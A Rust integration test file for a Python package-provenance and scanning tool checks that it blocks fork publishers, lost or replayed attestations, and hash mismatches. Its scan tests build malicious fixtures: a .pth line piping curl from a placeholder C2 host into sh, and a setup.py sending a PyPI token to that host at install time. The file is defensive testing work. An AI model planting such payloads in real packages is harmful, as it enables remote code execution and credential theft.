//! `turncoat verify` and `turncoat diff` on Python lockfiles and files with PEP 740
//! provenance: a `file://` directory index whose attestations are signed by the test Sigstore
//! of `turncoat_attest::testkit` (its trust root passed with `--trusted-root`).

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::{Value, json};
use sha2::Digest as _;
use turncoat_attest::testkit::{Identity, Kind, Kit, Signer, Version};

const NOW: &str = "2026-11-27T00:00:00Z";

fn run(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_turncoat"))
        .args(args)
        .arg("--cache-dir")
        .arg(dir.join("cache"))
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", dir.join("home"))
        .env("TMPDIR", dir.join("tmp"))
        .env("NO_COLOR", "1")
        .env("TURNCOAT_NOW", NOW)
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run turncoat")
}

#[track_caller]
fn exit(o: &Output, code: i32) {
    assert_eq!(
        o.status.code(),
        Some(code),
        "--- stdout\n{}\n--- stderr\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

fn json_out(o: &Output) -> Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    })
}

fn wheel(files: &[(&str, &str)]) -> Vec<u8> {
    use std::io::Write;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (p, d) in files {
        w.start_file(*p, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(d.as_bytes()).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn sha(b: &[u8]) -> String {
    sha2::Sha256::digest(b)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A PEP 740 provenance object for `subject` (file name, sha256), signed as `repo`.
fn provenance(kit: &Kit, subject: (&str, &str), repo: &str) -> Value {
    let id = Identity {
        repo: format!("https://github.com/{repo}"),
        repo_id: if repo.starts_with("acme/") {
            "1001"
        } else {
            "6666"
        }
        .into(),
        ..Identity::default()
    };
    let statement = json!({
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": subject.0, "digest": {"sha256": subject.1}}],
        "predicateType": "https://docs.pypi.org/attestations/publish/v1",
        "predicate": null
    });
    let b = kit.bundle(
        Version::V03,
        Kind::Dsse,
        Signer::Leaf(&id),
        &statement,
        true,
    );
    json!({"version": 1, "attestation_bundles": [{
        "publisher": {"kind": "GitHub", "repository": repo, "workflow": "release.yml", "environment": ""},
        "attestations": [{
            "version": 1,
            "envelope": {
                "statement": b["dsseEnvelope"]["payload"],
                "signature": b["dsseEnvelope"]["signatures"][0]["sig"],
            },
            "verification_material": {
                "certificate": b["verificationMaterial"]["certificate"]["rawBytes"],
                "transparency_entries": b["verificationMaterial"]["tlogEntries"],
            }
        }]
    }]})
}

/// How a release's provenance is served.
enum Prov<'a> {
    By(&'a str),
    None,
    /// The attestation of another release of the project.
    ReplayOf(&'a str),
}

/// `demo` releases (version, upload time, provenance) on a directory index under `root`.
/// Returns the index URL and each wheel's sha256.
fn index(
    root: &Path,
    kit: &Kit,
    releases: &[(&str, &str, Prov<'_>)],
) -> (String, BTreeMap<String, String>) {
    std::fs::create_dir_all(root.join("files")).unwrap();
    std::fs::create_dir_all(root.join("integrity")).unwrap();
    let mut hashes = BTreeMap::new();
    let mut files = Vec::new();
    for (version, uploaded, _) in releases {
        let name = format!("demo-{version}-py3-none-any.whl");
        let bytes = wheel(&[("demo/__init__.py", &format!("VERSION = {version:?}\n"))]);
        std::fs::write(root.join("files").join(&name), &bytes).unwrap();
        hashes.insert(version.to_string(), sha(&bytes));
        files.push((name, *uploaded));
    }
    let mut page = Vec::new();
    for ((name, uploaded), (version, _, prov)) in files.iter().zip(releases) {
        let mut entry = json!({
            "filename": name, "url": format!("../../files/{name}"),
            "hashes": {"sha256": hashes[*version]}, "upload-time": uploaded,
        });
        let object = match prov {
            Prov::By(repo) => Some(provenance(kit, (name, &hashes[*version]), repo)),
            Prov::ReplayOf(v) => Some(provenance(
                kit,
                (&format!("demo-{v}-py3-none-any.whl"), &hashes[*v]),
                "acme/widget",
            )),
            Prov::None => None,
        };
        if let Some(object) = object {
            let p = format!("{name}.provenance");
            std::fs::write(root.join("integrity").join(&p), object.to_string()).unwrap();
            entry["provenance"] = json!(format!("../../integrity/{p}"));
        }
        page.push(entry);
    }
    std::fs::create_dir_all(root.join("simple/demo")).unwrap();
    std::fs::write(
        root.join("simple/demo/index.json"),
        json!({"meta": {"api-version": "1.1"}, "name": "demo", "files": page}).to_string(),
    )
    .unwrap();
    (format!("file://{}/simple/", root.display()), hashes)
}

struct World {
    _tmp: tempfile::TempDir,
    index: String,
    hashes: BTreeMap<String, String>,
    root_json: String,
}

impl World {
    fn new() -> World {
        let tmp = tempfile::tempdir().unwrap();
        for sub in ["home", "tmp", "cache"] {
            std::fs::create_dir_all(tmp.path().join(sub)).unwrap();
        }
        let kit = Kit::new();
        let (index, hashes) = index(
            &tmp.path().join("mirror"),
            &kit,
            &[
                ("1.0.0", "2026-01-01T00:00:00Z", Prov::By("acme/widget")),
                ("1.0.1", "2026-02-01T00:00:00Z", Prov::By("acme/widget")),
                ("1.0.2", "2026-03-01T00:00:00Z", Prov::By("mallory/widget")),
                ("1.0.3", "2026-04-01T00:00:00Z", Prov::None),
                ("1.0.4", "2026-05-01T00:00:00Z", Prov::ReplayOf("1.0.1")),
                ("1.0.5", "2026-06-01T00:00:00Z", Prov::None),
            ],
        );
        let root_json = tmp.path().join("trusted_root.json");
        std::fs::write(&root_json, kit.trust_root_json().to_string()).unwrap();
        World {
            index,
            hashes,
            root_json: root_json.display().to_string(),
            _tmp: tmp,
        }
    }

    fn dir(&self) -> &Path {
        self._tmp.path()
    }

    fn pin(&self, file: &str, version: &str) {
        let path = self.dir().join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(
            self.dir().join(file),
            format!("demo=={version} --hash=sha256:{}\n", self.hashes[version]),
        )
        .unwrap();
    }

    fn verify(&self, target: &str, extra: &[&str]) -> Output {
        let mut args = vec![
            "verify",
            target,
            "--index-url",
            &self.index,
            "--trusted-root",
            &self.root_json,
            "--format",
            "json",
        ];
        args.extend_from_slice(extra);
        run(self.dir(), &args)
    }
}

fn codes(report: &Value) -> Vec<String> {
    report["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["level"] == "deny")
        .map(|f| f["code"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn verify_reports_the_trusted_publisher_of_an_attested_release() {
    let w = World::new();
    w.pin("requirements.txt", "1.0.1");
    let o = w.verify("requirements.txt", &[]);
    exit(&o, 0);
    let r = json_out(&o);
    assert_eq!(r["ecosystem"], "pypi");
    let p = &r["packages"][0];
    assert_eq!(p["verdict"], "pass", "{r:#}");
    let f = &p["files"][0];
    assert_eq!(f["provenance"]["status"], "verified", "{r:#}");
    assert_eq!(
        f["provenance"]["publishers"][0]["repository"],
        "acme/widget"
    );
    assert_eq!(f["provenance"]["publishers"][0]["workflow"], "release.yml");
    assert_eq!(p["previous_version"], "1.0.0");
    // Human output names the publisher.
    let o = run(
        w.dir(),
        &[
            "verify",
            "requirements.txt",
            "--index-url",
            &w.index,
            "--trusted-root",
            &w.root_json,
        ],
    );
    exit(&o, 0);
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(
        text.contains("provenance verified (GitHub acme/widget release.yml)"),
        "{text}"
    );
    // Against the real Sigstore root, the test attestation does not verify: fail closed.
    let o = run(
        w.dir(),
        &[
            "verify",
            "requirements.txt",
            "--index-url",
            &w.index,
            "--format",
            "json",
        ],
    );
    exit(&o, 1);
    assert_eq!(codes(&json_out(&o)), ["py-provenance-invalid"]);
}

#[test]
fn verify_blocks_a_fork_publisher_lost_provenance_and_a_replayed_attestation() {
    let w = World::new();
    for (version, code) in [
        ("1.0.2", "py-publisher-changed"),
        ("1.0.3", "py-provenance-lost"),
        ("1.0.4", "py-provenance-invalid"),
        // 1.0.4's attestation is invalid and 1.0.3 had none: 1.0.2's counts.
        ("1.0.5", "py-provenance-lost"),
    ] {
        w.pin("requirements.txt", version);
        let o = w.verify("requirements.txt", &[]);
        exit(&o, 1);
        assert_eq!(codes(&json_out(&o)), [code], "{version}");
    }
}

#[test]
fn verify_fails_closed_on_hashes_the_index_does_not_serve() {
    let w = World::new();
    std::fs::write(
        w.dir().join("requirements.txt"),
        format!("demo==1.0.1 --hash=sha256:{}\n", "0".repeat(64)),
    )
    .unwrap();
    let o = w.verify("requirements.txt", &[]);
    exit(&o, 1);
    assert_eq!(codes(&json_out(&o)), ["py-index-hash-mismatch"]);
    // No hash at all: nothing to verify the index against.
    std::fs::write(w.dir().join("requirements.txt"), "demo==1.0.1\n").unwrap();
    let o = w.verify("requirements.txt", &[]);
    exit(&o, 2);
    assert!(String::from_utf8_lossy(&o.stderr).contains("pins no sha256"));
}

#[test]
fn verify_a_local_wheel_against_the_index_and_its_provenance() {
    let w = World::new();
    let good = w.dir().join("mirror/files/demo-1.0.1-py3-none-any.whl");
    let o = w.verify(&good.display().to_string(), &[]);
    exit(&o, 0);
    assert_eq!(
        json_out(&o)["packages"][0]["files"][0]["provenance"]["status"],
        "verified"
    );
    // Other bytes under the release's file name: the index lists another sha256, and the
    // attestation does not vouch for these bytes.
    std::fs::create_dir_all(w.dir().join("local")).unwrap();
    let evil = w.dir().join("local/demo-1.0.1-py3-none-any.whl");
    std::fs::write(&evil, wheel(&[("demo.pth", "import os\n")])).unwrap();
    let o = w.verify(&evil.display().to_string(), &[]);
    exit(&o, 1);
    let mut c = codes(&json_out(&o));
    c.sort();
    assert_eq!(c, ["py-index-hash-mismatch", "py-provenance-invalid"]);
}

#[test]
fn diff_blocks_a_publisher_change_and_offline_runs_say_they_rest_on_the_cache() {
    let w = World::new();
    w.pin("base/requirements.txt", "1.0.1");
    w.pin("head/requirements.txt", "1.0.2");
    let diff = |extra: &[&str]| {
        let mut args = vec![
            "diff",
            "base/requirements.txt",
            "head/requirements.txt",
            "--index-url",
            &w.index,
            "--trusted-root",
            &w.root_json,
            "--format",
            "json",
        ];
        args.extend_from_slice(extra);
        run(w.dir(), &args)
    };
    let o = diff(&[]);
    exit(&o, 1);
    let r = json_out(&o);
    assert_eq!(codes(&r), ["py-publisher-changed"]);
    assert!(r["packages"][0].get("rests_on_cache").is_none(), "{r:#}");
    // The same update attested by the usual publisher passes.
    w.pin("base/requirements.txt", "1.0.0");
    w.pin("head/requirements.txt", "1.0.1");
    exit(&diff(&[]), 0);
    // Offline, the verdict rests on cached documents, and the report says which.
    let o = diff(&["--offline"]);
    exit(&o, 0);
    let r = json_out(&o);
    let used: Vec<&str> = r["packages"][0]["rests_on_cache"]
        .as_array()
        .unwrap_or_else(|| panic!("no rests_on_cache: {r:#}"))
        .iter()
        .map(|c| c["document"].as_str().unwrap())
        .collect();
    assert!(used.contains(&"simple page of demo"), "{used:?}");
    assert!(
        used.contains(&"provenance of demo-1.0.1-py3-none-any.whl"),
        "{used:?}"
    );
    // verify --offline too.
    w.pin("requirements.txt", "1.0.1");
    exit(&w.verify("requirements.txt", &[]), 0);
    let o = w.verify("requirements.txt", &["--offline"]);
    exit(&o, 0);
    assert!(
        json_out(&o)["packages"][0]["rests_on_cache"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
    );
}

#[test]
fn scan_judges_a_python_file_alone() {
    let w = World::new();
    let dir = w.dir();
    let pth = dir.join("evil-1.0.0-py3-none-any.whl");
    std::fs::write(
        &pth,
        wheel(&[
            ("evil/__init__.py", "x = 1\n"),
            (
                "evil.pth",
                "import os; os.system('curl https://c2.invalid | sh')\n",
            ),
        ]),
    )
    .unwrap();
    let o = run(
        dir,
        &["scan", "evil-1.0.0-py3-none-any.whl", "--format", "json"],
    );
    exit(&o, 1);
    let r = json_out(&o);
    assert_eq!(r["ecosystem"], "pypi");
    assert_eq!(r["packages"][0]["name"], "evil");
    assert_eq!(codes(&r), ["py-pth-exec"]);
    // An sdist whose setup.py sends a secret at install time.
    let sdist = dir.join("evil-1.0.1.tar.gz");
    {
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&sdist).unwrap(),
            flate2::Compression::default(),
        );
        let mut t = tar::Builder::new(gz);
        let setup = b"import os, urllib.request\nurllib.request.urlopen('https://c2.invalid/?' + os.environ['PYPI_TOKEN'])\nfrom setuptools import setup\nsetup(name='evil')\n";
        let mut h = tar::Header::new_gnu();
        h.set_size(setup.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        t.append_data(&mut h, "evil-1.0.1/setup.py", &setup[..])
            .unwrap();
        t.into_inner().unwrap().finish().unwrap();
    }
    let o = run(dir, &["scan", "evil-1.0.1.tar.gz", "--format", "json"]);
    exit(&o, 1);
    assert_eq!(codes(&json_out(&o)), ["py-install-time-capability"]);
    // The index's ordinary release passes.
    let good = dir.join("mirror/files/demo-1.0.1-py3-none-any.whl");
    let o = run(dir, &["scan", &good.display().to_string()]);
    exit(&o, 0);
}

#[test]
fn scan_judges_every_release_a_python_lockfile_pins() {
    let w = World::new();
    let dir = w.dir();
    // A second project on the same index with a .pth payload.
    let bytes = wheel(&[
        ("evil/__init__.py", "x = 1\n"),
        ("evil.pth", "import os; os.system('id')\n"),
    ]);
    std::fs::write(dir.join("mirror/files/evil-1.0.0-py3-none-any.whl"), &bytes).unwrap();
    std::fs::create_dir_all(dir.join("mirror/simple/evil")).unwrap();
    std::fs::write(
        dir.join("mirror/simple/evil/index.json"),
        json!({"meta": {"api-version": "1.1"}, "name": "evil", "files": [{
            "filename": "evil-1.0.0-py3-none-any.whl",
            "url": "../../files/evil-1.0.0-py3-none-any.whl",
            "hashes": {"sha256": sha(&bytes)},
        }]})
        .to_string(),
    )
    .unwrap();
    std::fs::write(
        dir.join("requirements.txt"),
        format!(
            "demo==1.0.1 --hash=sha256:{}\nevil==1.0.0 --hash=sha256:{}\n",
            w.hashes["1.0.1"],
            sha(&bytes)
        ),
    )
    .unwrap();
    let o = run(
        dir,
        &[
            "scan",
            "requirements.txt",
            "--index-url",
            &w.index,
            "--format",
            "json",
        ],
    );
    exit(&o, 1);
    let r = json_out(&o);
    assert_eq!(r["ecosystem"], "pypi");
    let mut verdicts: Vec<(String, String)> = r["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["name"].as_str().unwrap().into(),
                p["verdict"].as_str().unwrap().into(),
            )
        })
        .collect();
    verdicts.sort();
    assert_eq!(
        verdicts,
        [
            ("demo".into(), "pass".into()),
            ("evil".into(), "block".into())
        ]
    );
    // A pinned hash the index does not serve: fail closed, nothing judged.
    std::fs::write(
        dir.join("requirements.txt"),
        format!("evil==1.0.0 --hash=sha256:{}\n", "0".repeat(64)),
    )
    .unwrap();
    let o = run(dir, &["scan", "requirements.txt", "--index-url", &w.index]);
    exit(&o, 2);
}

#[test]
fn verify_reads_the_lockfile_formats_that_name_each_hashed_file() {
    let w = World::new();
    let good = &w.hashes["1.0.1"];
    let uv = |file: &str, hash: &str| {
        format!(
            "version = 1\nrevision = 3\nrequires-python = \">=3.9\"\n\n[[package]]\nname = \"demo\"\nversion = \"1.0.1\"\nsource = {{ registry = \"https://pypi.org/simple\" }}\nwheels = [\n    {{ url = \"https://files.example/{file}\", hash = \"sha256:{hash}\", size = 1 }},\n]\n"
        )
    };
    let poetry = |file: &str, hash: &str| {
        format!(
            "[[package]]\nname = \"demo\"\nversion = \"1.0.1\"\ndescription = \"\"\noptional = false\npython-versions = \"*\"\nfiles = [\n    {{file = \"{file}\", hash = \"sha256:{hash}\"}},\n]\n\n[metadata]\nlock-version = \"2.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n"
        )
    };
    for (name, make) in [
        ("uv.lock", &uv as &dyn Fn(&str, &str) -> String),
        ("poetry.lock", &poetry),
    ] {
        std::fs::write(
            w.dir().join(name),
            make("demo-1.0.1-py3-none-any.whl", good),
        )
        .unwrap();
        let o = w.verify(name, &[]);
        exit(&o, 0);
        assert_eq!(
            json_out(&o)["packages"][0]["files"][0]["provenance"]["status"],
            "verified",
            "{name}"
        );
        // The right digest recorded for a file the index does not list under that name: a
        // hash vouches for its own file only.
        std::fs::write(w.dir().join(name), make("demo-1.0.1.tar.gz", good)).unwrap();
        let o = w.verify(name, &[]);
        exit(&o, 1);
        assert_eq!(codes(&json_out(&o)), ["py-index-hash-mismatch"], "{name}");
    }
}

#[test]
fn diff_of_two_local_wheels_checks_their_provenance_only_with_an_index() {
    let w = World::new();
    let files = w.dir().join("mirror/files");
    let (old, new) = (
        files
            .join("demo-1.0.1-py3-none-any.whl")
            .display()
            .to_string(),
        files
            .join("demo-1.0.2-py3-none-any.whl")
            .display()
            .to_string(),
    );
    // Offline by default: no provenance, the analysis alone (a version bump) passes.
    let o = run(w.dir(), &["diff", &old, &new, "--format", "json"]);
    exit(&o, 0);
    // With the index: 1.0.2 was attested by a fork.
    let o = run(
        w.dir(),
        &[
            "diff",
            &old,
            &new,
            "--index-url",
            &w.index,
            "--trusted-root",
            &w.root_json,
            "--format",
            "json",
        ],
    );
    exit(&o, 1);
    assert_eq!(codes(&json_out(&o)), ["py-publisher-changed"]);
    // Local bytes other than the index's under the new file name: the attestation does not
    // vouch for them.
    std::fs::create_dir_all(w.dir().join("local")).unwrap();
    let evil = w.dir().join("local/demo-1.0.1-py3-none-any.whl");
    std::fs::write(
        &evil,
        wheel(&[("demo/__init__.py", "VERSION = '1.0.1'  \n")]),
    )
    .unwrap();
    let o = run(
        w.dir(),
        &[
            "diff",
            &files
                .join("demo-1.0.0-py3-none-any.whl")
                .display()
                .to_string(),
            &evil.display().to_string(),
            "--index-url",
            &w.index,
            "--trusted-root",
            &w.root_json,
            "--format",
            "json",
        ],
    );
    exit(&o, 1);
    assert_eq!(codes(&json_out(&o)), ["py-provenance-invalid"]);
}
